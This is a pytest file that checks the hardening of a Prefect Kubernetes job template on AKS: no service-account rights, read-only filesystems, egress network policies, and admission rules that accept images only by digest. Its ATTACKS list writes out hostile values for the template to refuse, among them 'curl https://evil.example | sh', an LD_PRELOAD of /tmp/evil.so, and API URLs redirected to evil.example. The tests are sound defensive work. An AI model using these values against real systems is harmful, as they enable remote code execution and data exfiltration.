"""The job that a run becomes in the work pool `aks`: as docs/streaming.md wants it, and without rights."""

import re
from ipaddress import ip_address, ip_network
from typing import Any

import pytest
import yaml
from prefect.utilities.schema_tools import ValidationError, validate

from freight.settings import PROJECT_ROOT
from tests.lib.aks import IMAGE, job_variables, parts, rendered, rendered_job, template

DEPLOYMENTS = [
    found["name"] for found in yaml.safe_load((PROJECT_ROOT / "prefect.yaml").read_text("utf-8"))["deployments"]
]
LISTENERS = ["listen-terminal-events", "listen-transactions"]
ONCE = [*LISTENERS, "scale-listeners", "send-report", "watch"]  # they hand over, or would tell people twice
every_deployment = pytest.mark.parametrize("deployment", DEPLOYMENTS)


def pod_of(deployment: str) -> dict[str, Any]:
    pod: dict[str, Any] = rendered_job(deployment)["spec"]["template"]["spec"]
    return pod


def container_of(deployment: str) -> dict[str, Any]:
    (container,) = pod_of(deployment)["containers"]
    assert isinstance(container, dict)
    return container


def environment_of(deployment: str) -> dict[str, str]:
    return {told["name"]: told["value"] for told in container_of(deployment)["env"]}


def test_no_placeholder_is_left() -> None:
    for deployment in DEPLOYMENTS:
        assert "{{" not in str(rendered_job(deployment))
    assert container_of("load-nightly")["image"] == IMAGE


@every_deployment
def test_a_run_is_told_to_end_once_and_has_time_to(deployment: str) -> None:
    job = rendered_job(deployment)
    assert job["spec"]["backoffLimit"] == 0
    # A pod that drains has not failed: the worker would call its run Crashed while it still works.
    assert job["spec"]["podReplacementPolicy"] == "Failed"
    assert job["spec"]["template"]["spec"]["terminationGracePeriodSeconds"] == 45
    behavior = "relinquish" if deployment in ONCE else "reschedule"
    assert environment_of(deployment)["PREFECT_FLOW_RUN_EXECUTE_SIGTERM_BEHAVIOR"] == behavior
    assert job["spec"]["ttlSecondsAfterFinished"] == 3_600


@every_deployment
def test_a_run_has_no_rights_and_writes_only_where_it_is_its_own(deployment: str) -> None:
    pod, container = pod_of(deployment), container_of(deployment)
    assert pod["automountServiceAccountToken"] is False
    assert pod["securityContext"]["runAsNonRoot"] is True
    assert pod["securityContext"]["runAsUser"] > 0
    assert container["securityContext"]["readOnlyRootFilesystem"] is True
    writable = {mount["mountPath"] for mount in container["volumeMounts"] if not mount.get("readOnly")}
    told = environment_of(deployment)
    assert writable == {"/tmp", told["DPA_HOME"]}
    assert told["PREFECT_HOME"].startswith(told["DPA_HOME"])


@every_deployment
def test_a_run_gets_an_identity_by_its_label_and_account(deployment: str) -> None:
    labels = rendered_job(deployment)["spec"]["template"]["metadata"]["labels"]
    assert labels["azure.workload.identity/use"] == "true"
    assert pod_of(deployment)["serviceAccountName"] == "dpa-run"


@every_deployment
def test_runs_of_a_deployment_are_spread(deployment: str) -> None:
    labels = rendered_job(deployment)["spec"]["template"]["metadata"]["labels"]
    for spread in pod_of(deployment)["topologySpreadConstraints"]:
        assert spread["labelSelector"]["matchLabels"].items() <= labels.items()
        assert set(spread["matchLabelKeys"]) <= labels.keys()


@pytest.mark.parametrize("deployment", LISTENERS)
def test_a_listener_has_the_memory_and_the_priority_that_it_needs(deployment: str) -> None:
    resources = container_of(deployment)["resources"]
    assert (resources["requests"]["memory"], resources["limits"]["memory"]) == ("512Mi", "1Gi")
    assert pod_of(deployment)["priorityClassName"] == "dpa-listeners"
    assert environment_of(deployment)["MALLOC_ARENA_MAX"] == "2"


def test_the_worker_may_do_nothing_outside_of_its_namespace() -> None:
    found = parts()
    assert {part["kind"] for part in found if "rbac" in part["apiVersion"]} == {"Role", "RoleBinding"}
    of_the_cluster = {
        "Namespace",
        "PriorityClass",
        "ValidatingAdmissionPolicy",
        "ValidatingAdmissionPolicyBinding",
    }
    places = {part["metadata"].get("namespace") for part in found if part["kind"] not in of_the_cluster}
    assert places == {"dpa"}
    (role,) = [part for part in found if part["kind"] == "Role"]
    assert "*" not in str(role["rules"])
    assert "secrets" not in str(role["rules"])


ATTACKS: list[dict[str, Any]] = [
    {"command": "sh -c 'curl https://evil.example | sh'"},
    {"image": "evil.example/dpa:1"},
    {"image_pull_policy": "Always"},
    {"namespace": "kube-system"},
    {"service_account_name": "prefect-worker"},
    {"name": "other"},
    {"labels": {"prefect.io/deployment-name": "send-report"}},
    {"annotations": {"azure.workload.identity/inject-proxy-sidecar": "true"}},
    {"scratch_limit": "8Ti"},
    {"finished_job_ttl": 0},
    {"cpu_limit": "64"},
    {"job_manifest": {"spec": {}}},
    {"env": {"LD_PRELOAD": "/tmp/evil.so"}},
    {"env": {"PYTHONPATH": "/tmp"}},
    {"env": {"PREFECT_API_URL": "http://evil.example/api"}},
    {"env": {"DPA_WAREHOUSE_URL": "postgresql://evil.example/freight"}},
    {"env.LD_PRELOAD": "/tmp/evil.so"},
    {"env": [{"name": "LD_PRELOAD", "value": "/tmp/evil.so"}]},
]
each_attack = pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: next(iter(attack)))


def refuse_as_the_server_does(variables: dict[str, Any]) -> None:
    validate(variables, template(IMAGE)["variables"], raise_on_error=True, allow_none_with_default=True)


@each_attack
def test_a_variable_of_a_run_that_no_deployment_needs_is_refused_by_prefect(attack: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        refuse_as_the_server_does(attack)


@each_attack
def test_a_variable_that_passes_prefect_by_changes_nothing_of_the_job(attack: dict[str, Any]) -> None:
    plain, attacked = rendered("load-nightly", {}), rendered("load-nightly", attack)  # a run may have no deployment
    assert what_is_run(attacked) == what_is_run(plain)


def what_is_run(job: dict[str, Any]) -> dict[str, Any]:
    """Return a job without what tells its run from another one."""
    told = re.sub(r"[0-9a-f]{8}-[0-9a-f-]{27}", "ID", yaml.safe_dump(job))
    cut: dict[str, Any] = yaml.safe_load(told)
    return cut


@every_deployment
def test_what_a_deployment_asks_of_its_pool_is_what_runs_may_ask(deployment: str) -> None:
    refuse_as_the_server_does(job_variables(deployment))


def test_runs_may_ask_for_nothing_that_no_deployment_asks_for() -> None:
    asked = [job_variables(deployment) for deployment in DEPLOYMENTS]
    known = template(IMAGE)["variables"]["properties"]
    told = {name for variables in asked for name in variables.get("env", {})}
    assert known["env"]["properties"].keys() == told
    # Prefect wants each place in the template declared; written with a dot, they mean the same.
    dotted = {f"env.{name}": known["env"]["properties"][name] for name in told}
    assert known.keys() == {name for variables in asked for name in variables} | dotted.keys()
    assert {name: known[name] for name in dotted} == dotted


@pytest.mark.parametrize(
    ("image", "is_let_in"),
    [
        (IMAGE, True),
        ("registry.example.org/dpa:1", False),
        ("registry.example.org/dpa", False),
        ("registry.example.org/dpa:1@sha256:0", False),
        (f"{IMAGE}:1", False),
    ],
)
def test_the_cluster_takes_images_by_digest_alone(image: str, is_let_in: bool) -> None:
    (sign, _) = patterns_of_the_pod_policy()
    assert bool(re.search(sign, image)) == is_let_in


@pytest.mark.parametrize(
    ("url", "is_let_in"),
    [
        ("https://prefect.example.org/api", True),
        ("http://prefect-server.prefect.svc:4200/api", True),
        ("http://prefect-server.prefect.svc.cluster.local:4200/api", True),
        ("http://prefect.example.org/api", False),
        ("http://10.0.0.4:4200/api", False),
        ("http://prefect.svc.evil.example/api", False),
        ("http://evil.example/x.prefect.svc/api", False),
        ("http://evil.example@prefect.prefect.svc/api", False),
        ("HTTP://prefect.example.org/api", False),
    ],
)
def test_prefect_is_spoken_to_by_tls_unless_it_is_in_the_cluster(url: str, is_let_in: bool) -> None:
    (_, sign) = patterns_of_the_pod_policy()
    assert bool(re.search(sign, url)) == is_let_in


def patterns_of_the_pod_policy() -> list[str]:
    """Return what the policy lets images and addresses match; live, in tests/kubernetes, the cluster judges."""
    (policy,) = [part for part in parts() if part["kind"] == "ValidatingAdmissionPolicy"]
    assert policy["spec"]["failurePolicy"] == "Fail"
    return [
        sign for rule in policy["spec"]["validations"] for sign in re.findall(r"matches\('(.+?)'\)", rule["expression"])
    ]


@pytest.mark.parametrize(
    ("place", "ports"),
    [
        ("10.1.2.4", {5432}),  # the warehouse
        ("10.1.3.5", {9093}),  # Kafka
        ("10.1.4.9", {443}),  # a private endpoint
        ("10.1.2.5", set()),  # its neighbour
        ("192.168.1.1", set()),
        ("169.254.169.254", set()),  # the metadata of the node
        ("168.63.129.16", set()),  # Azure's own host
        ("20.190.160.1", {443}),  # something public
        ("2603:1030::1", set()),
    ],
)
def test_a_pod_reaches_what_it_needs_and_nothing_else(place: str, ports: set[int]) -> None:
    asked = (22, 25, 80, 443, 465, 587, 4200, 5432, 9092, 9093, 32526)
    assert {port for port in asked if lets_out("dpa", place, port)} == ports
    is_public = ip_address(place).is_global and ip_address(place).version == 4 and place != "168.63.129.16"
    assert {port for port in asked if lets_out("dpa-report", place, port)} == ({465, 587} if is_public else set())


def lets_out(policy: str, place: str, port: int) -> bool:
    """Whether a policy lets a pod connect to an address."""
    (found,) = [part for part in parts() if part["metadata"]["name"] == policy and part["kind"] == "NetworkPolicy"]
    return any(
        holds(peer["ipBlock"], place)
        for rule in found["spec"]["egress"]
        if any(port == told["port"] for told in rule["ports"])
        for peer in rule["to"]
        if "ipBlock" in peer
    )


def holds(block: dict[str, Any], place: str) -> bool:
    address = ip_address(place)
    return address in ip_network(block["cidr"]) and not any(address in ip_network(x) for x in block.get("except", ()))


def test_every_way_out_says_where_to() -> None:
    rules = [rule for part in parts() if part["kind"] == "NetworkPolicy" for rule in part["spec"].get("egress", ())]
    assert [rule for rule in rules if not rule.get("to") or not rule.get("ports")] == []
